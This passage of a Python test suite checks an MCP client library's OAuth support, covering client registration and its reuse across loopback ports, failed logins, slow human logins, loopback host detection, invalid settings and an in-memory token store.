    async def note(request: httpx2.Request) -> None:
        sent.append(f"{request.method} {request.url.path}")

    async with httpx2.AsyncClient(event_hooks={"request": [note]}) as http:
        assert (await get(f"{base}/mcp", login(http_client=http))).text == "hello"
        assert not http.is_closed
    assert sent == [
        "GET /.well-known/oauth-protected-resource/mcp",
        "GET /.well-known/oauth-authorization-server",
        "POST /register",
        "POST /token",
    ]


async def test_a_registration_is_kept_per_issuer(fake: Fake, base: str) -> None:
    store = InMemoryTokenStore()
    first = login(store=store)
    await get(f"{base}/mcp", first)
    await first.forget(f"{base}/mcp")
    assert await store.get(f"oauth:tokens:{base}/mcp") is None
    await get(f"{base}/mcp", login(store=store))  # logs in again as the same client
    await get(f"{base}/mcp", login(store=InMemoryTokenStore()))  # a new client
    assert len(fake.authorizations) == 3
    assert fake.log.count("POST /register") == 2
    record = await store.get(f"oauth:client:{base}")
    assert record is not None
    assert record["client_id"] == "registered"


@pytest.mark.parametrize(
    ("registered", "now", "registrations"),
    [
        ("http://127.0.0.1:1/callback", "http://127.0.0.1:2/callback", 1),
        ("http://[::1]:1/callback", "http://[::1]:2/callback", 1),
        ("http://localhost:1/callback", "http://localhost/callback", 1),
        ("http://127.0.0.1:1/callback", "http://localhost:1/callback", 2),  # another host
        ("http://127.0.0.1:1/callback", "http://127.0.0.1:2/other", 2),
        ("http://example.com:1/callback", "http://example.com:2/callback", 2),
    ],
    ids=["ipv4", "ipv6", "localhost", "other-host", "other-path", "not-loopback"],
)
async def test_a_registration_is_reused_when_only_a_loopback_port_differs(
    fake: Fake, base: str, registered: str, now: str, registrations: int
) -> None:
    """Authorization servers accept a loopback redirect on any port (RFC 8252 7.3), so
    a program whose login listener gets a new port each run keeps its registration."""
    store = InMemoryTokenStore()
    first = OAuth(redirect_uri=registered, authorize=follow, store=store)
    await get(f"{base}/mcp", first)
    await store.delete(f"oauth:tokens:{base}/mcp")
    await get(f"{base}/mcp", OAuth(redirect_uri=now, authorize=follow, store=store))
    assert fake.log.count("POST /register") == registrations


# -- through the Client ----------------------------------------------------------------------


async def test_client_connects_through_oauth_and_a_failed_login_says_why() -> None:
    mcp = MCPServer("protected")

    @mcp.tool()
    async def whoami() -> str:
        return "someone"

    fake = Fake()
    async with serve(fake_app(fake, mcp.http_app()), path="") as running:
        fake.base = running.url
        async with Client(f"{running.url}/mcp", auth=login()) as client:
            result = await client.call_tool("whoami")
            assert result.structured_content == {"result": "someone"}

        async def deny(authorization_url: str) -> dict[str, str]:
            answer = await follow(authorization_url)
            return {"error": "access_denied", "state": answer["state"], "iss": answer["iss"]}

        auth = OAuth(redirect_uri=REDIRECT_URI, authorize=deny)
        with pytest.raises(AuthorizationError, match=r"authorization failed: .*access_denied") as e:
            async with Client(f"{running.url}/mcp", auth=auth):
                pass
        assert e.value.oauth_error == "access_denied"
        assert isinstance(e.value, MCPError)


async def test_the_time_a_person_takes_to_log_in_does_not_count_against_request_timers() -> None:
    """The login runs inside the connection's first request. A person slower than every
    timer of the connection (the 2026-07-28 probe, the handshake) still gets one login
    page, and the client still finds out that the server is a modern one."""
    fake = Fake()
    timeout = 2.0  # what is left after the login must fit in it on a busy machine

    async def slow_person(authorization_url: str) -> dict[str, str]:
        await anyio.sleep(timeout * 2)  # the time itself is what is tested
        return await follow(authorization_url)

    auth = OAuth(redirect_uri=REDIRECT_URI, authorize=slow_person)
    async with serve(fake_app(fake, MCPServer("protected").http_app()), path="") as running:
        fake.base = running.url
        url = f"{running.url}/mcp"
        async with Client(url, auth=auth, connect_timeout_seconds=timeout) as client:
            assert client.protocol_version == LATEST_VERSION
    assert len(fake.authorizations) == 1


@pytest.mark.parametrize(
    ("url", "here"),
    [
        ("http://localhost:8080/cb", True),
        ("http://auth.localhost/cb", True),
        ("http://127.0.0.2/cb", True),
        ("http://[::1]:9/cb", True),
        ("http://localhost./cb", True),
        ("http://auth.localhost./cb", True),
        ("http://[::ffff:127.0.0.1]:9/cb", True),
        ("http://[::ffff:10.0.0.1]/cb", False),
        ("http://localhost.example.com/cb", False),
        ("http://10.0.0.1/cb", False),
        ("https://app.example.com/cb", False),
    ],
)
def test_this_machine_is_one_rule_for_plain_http_and_for_native_apps(url: str, here: bool) -> None:
    """What counts as this machine decides both where plain http may carry OAuth
    secrets and whether a redirect makes a native application (RFC 8252)."""
    host = httpx2.URL(url).host
    assert is_loopback(host) is here
    assert application_type(url) == ("native" if here else "web")
    assert application_type("com.example.app:/callback") == "native"


def test_oauth_refuses_settings_that_cannot_work() -> None:
    with pytest.raises(ValueError, match="needs redirect_uri and authorize"):
        OAuth()
    with pytest.raises(ValueError, match="needs client_id and client_secret or private_key"):
        OAuth(grant="client_credentials", client_id="app")
    with pytest.raises(ValueError, match="'client_secret_jwt' is not supported"):
        login(token_endpoint_auth_method="client_secret_jwt")
    with pytest.raises(ValueError, match="https URL with a path"):
        login(client_metadata_url="http://example.com/client.json")
    with pytest.raises(TypeError, match="auth= applies to an http"):
        Client(MCPServer("local"), auth=login())


# -- the token store -----------------------------------------------------------------------


async def test_in_memory_store_keeps_a_copy_of_each_record() -> None:
    store: TokenStore = InMemoryTokenStore()
    scopes = ["mcp"]
    await store.set("token https://rs/mcp", {"access_token": "a", "scopes": scopes})
    scopes.append("admin")
    got = await store.get("token https://rs/mcp")
    assert got == {"access_token": "a", "scopes": ["mcp"]}
    assert got is not None
    got["access_token"] = "changed"
    assert await store.get("token https://rs/mcp") == {"access_token": "a", "scopes": ["mcp"]}
    await store.delete("token https://rs/mcp")
    await store.delete("token https://rs/mcp")
    assert await store.get("token https://rs/mcp") is None
    assert json.dumps(await store.get("absent")) == "null"


def test_a_program_that_logs_in_nowhere_does_not_load_the_oauth_libraries() -> None:
    check = (
        "import sys\n"
        "from answerback import Client\n"
        "from answerback.client import ClientSession, InMemoryTokenStore\n"
        "from answerback.transports.http import StreamableHTTPTransport\n"
        "loaded = [m for m in ('authlib', 'joserfc') if m in sys.modules]\n"
        "assert not loaded, loaded\n"
        "from answerback.client import OAuth\n"
        "assert 'authlib' in sys.modules\n"
    )
    subprocess.run([sys.executable, "-c", check], check=True, timeout=60)
